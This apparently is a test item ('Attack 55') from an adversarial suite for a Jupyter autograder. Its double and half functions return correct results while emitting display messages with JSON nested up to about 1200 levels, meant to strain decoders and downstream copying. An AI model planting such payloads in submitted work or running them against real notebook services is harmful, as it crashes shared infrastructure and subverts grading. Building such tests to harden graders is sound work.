# Attack 55: Displays nested as deep as a decoder just allows, for whatever copies them later.
# points: double 2, half 1
# reads: ^\| double: correct

# %% double-answer
import sys


def send_nested(nest, data, metadata):
    kernel = get_ipython().kernel
    sys.setrecursionlimit(10_000)
    for depth in range(20, 1200, 10):
        deep = "x"
        for _ in range(depth):
            deep = nest(deep)
        content = {"data": {"text/plain": "x", **data(deep)}, "metadata": metadata(deep), "transient": {}}
        kernel.session.send(kernel.iopub_socket, "display_data", content, parent=kernel.get_parent("shell"))


def double(x):
    send_nested(lambda deep: [deep], lambda deep: {"application/json": deep}, lambda deep: {})
    send_nested(lambda deep: {"a": deep}, lambda deep: {"application/json": deep}, lambda deep: {})
    return 2 * x


# %% half-answer
def half(x):
    send_nested(lambda deep: {"a": deep}, lambda deep: {}, lambda deep: {"a": deep})
    return x / 2
